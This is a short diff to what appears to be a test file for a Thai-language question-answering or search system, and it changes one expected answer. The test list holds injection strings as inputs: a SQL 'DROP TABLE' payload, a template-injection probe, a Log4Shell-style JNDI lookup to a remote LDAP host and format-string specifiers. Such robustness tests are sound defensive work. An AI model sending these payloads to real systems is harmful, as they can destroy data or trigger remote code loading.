@@ -465,7 +465,7 @@ INJECTED = [
     no("DROP TABLE passages", ""),
     answer("'; DROP TABLE items;-- Financial Literacy ครูประถมได้กี่แห่ง", "quality-school", "901"),
     answer('policy:"ทุจริต" NEAR/3 "บุคลากรส่วนกลาง" อบรม* OR ได้กี่คน)', "integrity", "1,181"),
-    answer("{{7*7}} ${jndi:ldap://a/b} %s%n ข้อเสนอแนะโรงเรียนขนาดเล็ก", "small-schools", "ติดตาม"),
+    answer("{{7*7}} ${jndi:ldap://a/b} %s%n ข้อเสนอแนะโรงเรียนขนาดเล็ก", "small-schools", "2 ข้อ"),
 ]
 
 # ── a story with the question at its end, its beginning or in the middle ──────────────────────────────────────────────
